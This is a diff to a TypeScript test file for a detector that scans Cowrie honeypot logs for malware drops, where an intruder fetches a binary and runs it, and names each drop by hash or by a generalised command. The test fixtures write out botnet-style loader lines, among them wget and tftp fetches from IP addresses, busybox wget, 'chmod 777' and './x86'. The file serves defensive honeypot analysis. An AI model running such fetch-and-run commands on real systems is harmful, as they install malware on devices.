@@ -4,31 +4,40 @@ import { DownloadThenRun } from "../../src/features/download-then-run";
 const command = (session: string, input: string) => ({ session, eventid: "cowrie.command.input", input });
 
 describe("DownloadThenRun", () => {
-  it("finds a fetch then a run in one session, once", () => {
+  it("finds a fetch then a run in one session, once, and names what ran by its hash when Cowrie logged one", () => {
     const drops = new DownloadThenRun();
-    assert.equal(drops.observe(command("a", "cd /tmp; wget http://203.0.113.9/x86")), false);
-    assert.equal(drops.observe({ session: "a", eventid: "cowrie.session.file_download", url: "http://203.0.113.9/x86" }), false);
-    assert.equal(drops.observe(command("a", "chmod 777 x86")), true);
-    assert.equal(drops.observe(command("a", "./x86")), false, "the session already counted");
+    assert.equal(drops.observe(command("a", "cd /tmp; wget http://203.0.113.9/x86")), undefined);
+    assert.equal(drops.observe({ session: "a", eventid: "cowrie.session.file_download", url: "http://203.0.113.9/x86", shasum: "ab12" }), undefined);
+    assert.equal(drops.observe(command("a", "chmod 777 x86")), "sha256:ab12");
+    assert.equal(drops.observe(command("a", "./x86")), undefined, "the session already counted");
   });
 
   it("counts a failed download, an upload, and a fetch and run on one command line", () => {
     const drops = new DownloadThenRun();
-    drops.observe({ session: "b", eventid: "cowrie.session.file_download.failed" });
-    assert.equal(drops.observe(command("b", "sh bins.sh")), true);
-    drops.observe({ session: "c", eventid: "cowrie.session.file_upload" });
-    assert.equal(drops.observe(command("c", "/tmp/payload")), true);
-    assert.equal(drops.observe(command("d", "cd /tmp || cd /var/run; /usr/bin/wget http://x/b; chmod +x b; ./b")), true);
+    drops.observe({ session: "b", eventid: "cowrie.session.file_download.failed", url: "http://198.51.100.4:81/bins.sh" });
+    assert.equal(drops.observe(command("b", "sh bins.sh")), "http://*/bins.sh");
+    drops.observe({ session: "c", eventid: "cowrie.session.file_upload", shasum: "94f2" });
+    assert.equal(drops.observe(command("c", "/tmp/payload")), "sha256:94f2");
+    assert.equal(drops.observe(command("d", "cd /tmp || cd /var/run; /usr/bin/wget http://x/b; chmod +x b; ./b")), "wget http://x/b");
+  });
+
+  it("names one campaign's drops alike from bot to bot: addresses and ports left out", () => {
+    const drops = new DownloadThenRun();
+    const loader = (bot: string) => `cd /tmp || cd /var/; rm -rf i; wget http://${bot}:41075/i; chmod 777 i; ./i`;
+    const names = ["116.114.95.198", "59.59.69.241"].map((bot, i) => drops.observe(command(`s${i}`, loader(bot))));
+    assert.deepEqual(names, ["wget http://*/i", "wget http://*/i"]);
+    assert.equal(drops.observe(command("t", "tftp -g -r mips 203.0.113.5; chmod +x mips; ./mips")), "tftp -g -r mips *");
+    assert.equal(drops.observe(command("u", `wget http://x/${"a".repeat(1000)}; sh`))?.length, 256, "a name is cut");
   });
 
   it("does not call a shell alone, or a run in another session, a malware drop", () => {
     const drops = new DownloadThenRun();
-    assert.equal(drops.observe(command("e", "enable; system; shell; sh")), false);
-    assert.equal(drops.observe(command("p", "tftp; wget; /bin/busybox XRCUK")), false, "Mirai's probe fetches nothing");
-    assert.equal(drops.observe(command("p", "sh")), false);
-    assert.equal(drops.observe(command("q", "/bin/busybox wget http://192.0.2.7/m.arm7; /bin/busybox chmod 777 m.arm7")), true, "busybox's applets");
+    assert.equal(drops.observe(command("e", "enable; system; shell; sh")), undefined);
+    assert.equal(drops.observe(command("p", "tftp; wget; /bin/busybox XRCUK")), undefined, "Mirai's probe fetches nothing");
+    assert.equal(drops.observe(command("p", "sh")), undefined);
+    assert.equal(drops.observe(command("q", "/bin/busybox wget http://192.0.2.7/m.arm7; /bin/busybox chmod 777 m.arm7")), "wget http://*/m.arm7", "busybox's applets");
     drops.observe(command("f", "wget http://x/b"));
-    assert.equal(drops.observe(command("g", "chmod +x b; ./b")), false);
-    assert.equal(drops.observe(command("f", "uname -a")), false);
+    assert.equal(drops.observe(command("g", "chmod +x b; ./b")), undefined);
+    assert.equal(drops.observe(command("f", "uname -a")), undefined);
   });
 });
